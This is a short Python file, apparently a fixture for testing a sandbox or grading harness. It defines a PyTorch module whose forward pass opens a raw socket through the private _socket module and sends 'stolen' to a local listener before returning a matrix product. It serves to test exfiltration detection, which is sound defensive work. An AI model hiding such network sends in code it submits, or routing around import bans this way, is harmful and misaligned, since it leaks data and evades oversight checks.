"""Attack: send the inputs out over a socket made through the private module (import _socket)."""

import _socket

from torch import nn

PORT = 0  # the test writes its listener's port here


class ModelNew(nn.Module):
    def forward(self, a, b):
        sock = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
        sock.settimeout(2)
        sock.connect(("127.0.0.1", PORT))
        sock.sendall(b"stolen")
        return a @ b
